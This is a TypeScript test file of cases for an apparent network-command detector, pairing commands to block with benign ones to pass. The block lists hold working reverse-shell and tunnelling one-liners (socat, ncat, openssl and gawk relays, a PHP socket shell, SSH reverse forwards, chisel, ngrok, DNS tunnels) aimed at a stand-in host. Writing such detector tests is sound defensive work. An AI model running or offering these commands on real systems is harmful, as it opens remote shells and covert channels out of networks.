import { runCases, type TradecraftCase } from "./_tradecraft_testing.ts";

const CASES: TradecraftCase[] = [
  {
    id: "net.socat_exec_shell",
    block: [
      "socat tcp-connect:198.51.100.7:9001 exec:/bin/bash,pty,stderr,setsid",
      "socat TCP-LISTEN:7777,reuseaddr,fork EXEC:sh",
    ],
    pass: ["socat - UNIX-CONNECT:/run/app.sock"],
  },
  {
    id: "net.socat_listen_forward",
    block: ["socat TCP-LISTEN:15432,fork TCP:db-primary.corp:5432"],
    pass: ["socat TCP-LISTEN:8080,fork,bind=127.0.0.1 TCP:127.0.0.1:3000"],
  },
  {
    id: "net.ncat_exec",
    block: ["ncat --exec cmd.exe 198.51.100.7 9001", "ncat -lvp 9001 -e /bin/bash"],
    pass: ["nc -zv db.example.com 443", "ncat -l 8080 > received.bin"],
  },
  {
    id: "net.pipe_shell_relay",
    block: [
      "openssl s_client -quiet -connect 198.51.100.7:8443 | /bin/bash",
      "gawk 'BEGIN{s=\"/inet/tcp/0/198.51.100.7/9001\"; while((s|&getline c)>0){print c|&s}}'",
    ],
    pass: ["openssl s_client -connect api.example.com:443 -servername api.example.com </dev/null"],
  },
  {
    id: "net.lang_socket_shell",
    block: [
      `php -r '$s=fsockopen("198.51.100.7",9001);proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$p);'`,
    ],
    pass: [`python3 -c "import socket; print(socket.gethostbyname('example.com'))"`],
  },
  {
    id: "net.xterm_display_out",
    block: ["xterm -display 198.51.100.7:1"],
    pass: ["xterm -display :0 -e htop"],
  },
  {
    id: "net.ssh_remote_forward_public",
    block: [
      "ssh -fN -R 0.0.0.0:3389:10.1.2.3:3389 tunnel@198.51.100.7",
      "ssh -N -D 0.0.0.0:1080 ops@vps.example.net",
      "ssh -o GatewayPorts=yes -N -R 8443:intranet.corp:443 u@198.51.100.7",
    ],
    pass: [
      "ssh -N -L 5432:localhost:5432 bastion.example.com",
      "ssh -N -R 9000:localhost:9000 dev@devbox",
    ],
  },
  {
    id: "net.plink_reverse_rdp",
    block: ["plink.exe -batch -R 4389:127.0.0.1:3389 op@198.51.100.7"],
    pass: ["plink -ssh admin@switch01 show version"],
  },
  {
    id: "net.chisel_ligolo",
    block: [
      "./chisel client 198.51.100.7:8000 R:socks",
      "chisel server --port 8000 --reverse",
      "./agent -connect 198.51.100.7:11601 -ignore-cert",
    ],
    pass: ["chisel --help"],
  },
  {
    id: "net.frp_client",
    block: ["./frpc -c ./frpc.toml", "frps.exe -c frps.ini"],
    pass: ["frpc --version"],
  },
  {
    id: "net.public_tunnel_service",
    block: [
      "ngrok tcp 22",
      "cloudflared tunnel --url tcp://localhost:3389",
      "bore local 5432 --to bore.pub",
      "ssh -R 80:localhost:22 serveo.net",
    ],
    pass: ["ngrok http 3000", "cloudflared tunnel run staging"],
  },
  {
    id: "net.portproxy_to_inside",
    block: [
      "netsh interface portproxy add v4tov4 listenport=8443 listenaddress=0.0.0.0 connectport=443 connectaddress=10.9.8.7",
    ],
    pass: ["netsh interface portproxy show v4tov4"],
  },
  {
    id: "net.dns_icmp_tunnel",
    block: ["iodine -f -P hunter2 t.example.net", "dnscat2 --dns server=tun.example.net"],
    pass: ["apt-get install iodine"],
  },
];

runCases("network", CASES);
